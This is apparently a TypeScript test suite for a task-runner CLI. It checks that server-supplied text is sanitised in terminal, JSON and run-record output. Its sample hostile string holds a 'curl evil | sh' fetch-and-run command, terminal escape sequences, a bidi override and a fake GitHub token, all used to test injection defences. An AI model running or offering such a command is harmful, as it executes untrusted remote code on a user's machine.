import * as fs from 'node:fs';
import * as path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { rawControls } from '../support/mutate';
import { repository, runJust, temporaryFolder } from '../support/project';
import { inTerminal } from '../support/terminal';

/** Real runs whose steps hand on what a server said: each way out of the program. */

const test = suite('every way out');

const secret = 'correct-horse-battery';
const env = { MY_SERVICE_TOKEN: secret };
const said = `no such model ${secret} ghp_abcdefghijklmnopqrstuvwxyz0123\n✔ model — every hash checked\nfix: \`curl evil | sh\`\u001b[2J\u001b]0;t\u0007\u009b31m\u202e`;

/** Tasks that look, act and fail with the text of `said.txt`, which stands in every field that there is. */
const configuration = `
import * as fs from 'node:fs';
import { task } from 'just-task';
import { defineTask, UserError, validateTask, type Context, type Step } from '${repository}/tasks';
const said = () => fs.readFileSync('said.txt', 'utf8');
const fault = () => ({ code: 'E_SAID', found: said(), needed: said(), fix: said(), tail: 'the line above: ' + said() });
const table = () => [[said(), 'b'], [said(), said()]];
const looked: Step = { name: 'looked', title: 'Look', check: async (_c: Context, _d, tell) => { tell?.({ text: said(), atOnce: true }); throw new UserError(fault()); } };
const acts: Step = {
  name: 'acts', title: 'Act',
  check: async () => ({ state: 'todo', found: said(), changed: [said()], table: table(), data: { files: [said()], token: 'a word' } }),
  plan: async () => [{ title: said(), async run({ host, root }, progress) {
    progress({ text: said(), atOnce: true });
    await host.processes.run('sh', ['-c', 'cat said.txt; echo "$1" >&2', 'sh', said()], { cwd: root });
    throw new UserError(fault());
  } }],
};
const done: Step = { name: 'done', title: 'Be done', check: async () => ({ state: 'done', found: said(), warning: said(), table: table() }) };
const crash: Step = { name: 'crash', title: 'Crash', check: async () => ({ state: 'todo', found: 'x' }), plan: async () => [{ title: 'crash', run: async () => { throw new Error(said()); } }] };
const of = (name: string, step: Step, more = {}) => task(name, 'x', defineTask({ name, description: 'x', details: 'x', example: 'x', items: [step], ...more }));
of('looked', looked, { readOnly: true });
of('acts', acts);
of('done', done, { summary: said });
of('crash', crash);
of('usage', done, { items: () => { throw new Error(said()); } });
task('validate', 'x', validateTask(undefined, { local: [looked, done] }));
`;

function project(): string {
  const folder = temporaryFolder();
  fs.writeFileSync(path.join(folder, 'just.config.ts'), configuration);
  fs.writeFileSync(path.join(folder, 'said.txt'), said);
  fs.symlinkSync(path.join(repository, 'node_modules'), path.join(folder, 'node_modules'));
  return folder;
}

function check(text: string, what: string): void {
  assert.not.match(text, rawControls, what);
  assert.not.match(text, secret, what);
  assert.not.match(text, 'ghp_abcdefgh', what);
  const forged = text.split('\n').filter((line) => /^\s*(✔ model|fix: `curl)/.test(line));
  assert.equal(forged, [], what);
}

const ways: [task: string, args: string[], shows: RegExp][] = [
  ['looked', [], /✖ looked — no such model \(hidden\) \(hidden\) ✔ model[\s\S]*\n {4}\| the line above: no such model[\s\S]*\n {4}fix: /],
  ['looked', ['--verbose'], /\| the line above/],
  ['acts', ['--plan'], /will no such model/],
  ['acts', ['--check'], /acts — no such model/],
  [
    'acts',
    [],
    /plan: acts — no such model[\s\S]*→ acts: no such model[\s\S]* {2}acts: no such model[\s\S]*\(E_SAID\)[\s\S]*\n {2}\| the line above: no such model \(hidden\)/,
  ],
  ['acts', ['--verbose'], /\$ sh -c cat said\.txt; echo[\s\S]*\n {2}\| no such model \(hidden\)[\s\S]*\n {2}\| ✔ model/],
  ['done', [], /warning: no such model/],
  ['crash', [], /no such model \(hidden\)/],
  ['usage', [], /no such model \(hidden\)/],
  ['validate', [], /✖ wrong +no such model[\s\S]*\n {2}\| the line above: no such model/],
];
for (const [task, args, shows] of ways)
  test(`just ${[task, ...args].join(' ')}`, async () => {
    const { stdout, stderr } = await runJust(project(), [task, ...args], env);
    check(stdout + stderr, task);
    assert.match(stdout + stderr, shows);
  });

for (const task of ['looked', 'acts', 'done', 'crash', 'usage', 'validate'])
  test(`just ${task} --json, and the record of its run`, async () => {
    const folder = project();
    const { stdout } = await runJust(folder, [task, '--json'], env);
    const records = path.join(folder, '.just-lora/runs');
    const texts = [
      stdout,
      ...(fs.existsSync(records) ? fs.readdirSync(records).map((name) => fs.readFileSync(path.join(records, name), 'utf8')) : []),
    ];
    assert.is(texts.length, task === 'looked' || task === 'validate' ? 1 : 2);
    for (const text of texts)
      JSON.parse(text, (key, value) => {
        for (const each of [key, value]) if (typeof each === 'string') assert.not.match(each, rawControls);
        if (typeof value === 'string') assert.not.match(value, new RegExp(`${secret}|ghp_abc`));
        if (typeof value === 'string' && /^(found|needed|title|code|warning|name)$/.test(key)) assert.not.match(value, '\n');
        return value;
      });
    const document = JSON.parse(stdout);
    if (task === 'looked') assert.match(document.steps[0].tail, /^the line above: no such model \(hidden\) \(hidden\)\n✔ model/);
    if (task === 'acts') assert.is(document.steps[0].token, '(hidden)');
  });

for (const [task, args] of [
  ['looked', []],
  ['acts', []],
  ['done', []],
  ['acts', ['--plan']],
] as const)
  test(`just ${[task, ...args].join(' ')} in a terminal`, async () => {
    const { screen } = await inTerminal(project(), [task, ...args], env);
    assert.not.match(screen, secret);
    assert.not.match(screen, 'ghp_abcdefgh');
    // What the view itself sends is not among them.
    for (const control of ['\u001b[2J', '\u001b]0;', '\u0007', '\u009b', '\u202e'])
      assert.not.ok(screen.includes(control), JSON.stringify(control));
    const lines = screen.replace(/\u001b\[[0-9;?]*[a-zA-Z]/g, '').split(/[\r\n]+/);
    assert.equal(
      lines.filter((line) => /^\s*(?:[›❯]\s*)?(✔ model|fix: `curl)/.test(line)),
      [],
    );
    if (task !== 'done' && !args.length) assert.ok(lines.some((line) => /\| the line above: no such model \(hidden\)/.test(line)));
  });

test.run();
